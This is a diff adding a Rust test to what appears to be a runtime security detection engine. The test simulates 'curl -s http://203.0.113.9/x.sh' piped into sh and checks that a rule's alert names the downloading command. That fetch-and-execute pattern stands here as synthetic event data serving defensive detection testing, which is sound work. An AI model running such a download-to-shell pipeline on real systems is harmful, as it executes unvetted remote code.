@@ -1250,3 +1250,52 @@ fn proc_duration_counts_from_the_fork_or_the_snapshot_start() {
     .concat();
     assert_eq!(fired(&caps, &rules), ["d49@50", "d30@90"]);
 }
+
+#[test]
+fn a_shell_fed_by_a_download_names_what_was_downloaded() {
+    use shrike_format::fdtype;
+    let piped = |mut e: OwnedEvent, stdin: (u64, u64), stdout: (u64, u64)| {
+        if let Body::Execve {
+            stdin_type,
+            stdin_ino,
+            stdout_type,
+            stdout_ino,
+            ..
+        } = &mut e.body
+        {
+            (*stdin_type, *stdin_ino) = stdin;
+            (*stdout_type, *stdout_ino) = stdout;
+        }
+        e
+    };
+    let pipe = (fdtype::PIPE, 777);
+    let caps = [capture(&[
+        snapshot(100, 1, "bash", "/bin/bash"),
+        piped(
+            exec(
+                10,
+                200,
+                100,
+                "/usr/bin/curl",
+                &["curl", "-s", "http://203.0.113.9/x.sh"],
+            ),
+            (0, 0),
+            pipe,
+        ),
+        piped(exec(11, 201, 100, "/bin/sh", &["sh"]), pipe, (0, 0)),
+    ])];
+    let mut l = Loader::new();
+    l.add_str(
+        "t.yaml",
+        "- rule: r\n  desc: d\n  condition: evt.type = execve and proc.name = sh\n  \
+         output: from %shrike.stdin.writer (%shrike.stdin.writer.cmdline)\n  priority: INFO\n",
+    )
+    .unwrap();
+    let engine = Engine::new(&l.finish().unwrap(), Priority::Debug);
+    let (alerts, _) = scan(&caps, &History::build(&caps), &engine);
+    assert_eq!(alerts.len(), 1);
+    assert_eq!(
+        alerts[0].output,
+        "from curl (curl -s http://203.0.113.9/x.sh)"
+    );
+}
